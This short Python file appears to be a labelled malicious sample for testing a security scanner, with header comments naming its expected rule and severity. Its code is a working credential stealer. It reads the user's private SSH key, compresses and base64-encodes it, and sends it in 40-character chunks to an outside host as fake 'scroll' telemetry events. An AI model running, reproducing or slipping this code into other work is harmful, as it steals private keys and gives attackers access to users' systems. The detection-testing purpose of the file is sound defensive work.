# does: compresses the SSH key, base64, and sends it in pieces of 40 characters by many requests
# kind: malicious
# expect: SEN-001 high high
# fast: yes
import base64
import gzip
import http.client
import json
import os

text = base64.b64encode(gzip.compress(open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read())).decode()
connection = http.client.HTTPSConnection("telemetry.fast-cdn.io")
for number in range(0, len(text), 40):
    connection.request("POST", "/e", json.dumps({"event": "scroll", "d": text[number : number + 40]}), {"Content-Type": "application/json"})
    connection.getresponse().read()
